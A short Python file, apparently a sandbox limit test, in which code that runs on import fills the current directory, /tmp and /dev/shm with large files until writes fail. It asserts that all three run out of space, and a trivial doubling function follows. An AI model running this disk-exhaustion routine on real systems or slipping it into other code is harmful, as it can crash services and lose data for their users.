import os

FULL = 0
for folder in (".", "/tmp", "/dev/shm"):
    try:
        for number in range(100):
            with open(f"{folder}/fill{number}", "wb") as file:
                for _ in range(100):
                    file.write(bytes(1 << 20))
                    file.flush()
    except OSError as error:
        FULL += 1
print("TRIED", FULL)
assert FULL == 3


def double(x):
    return 2 * x
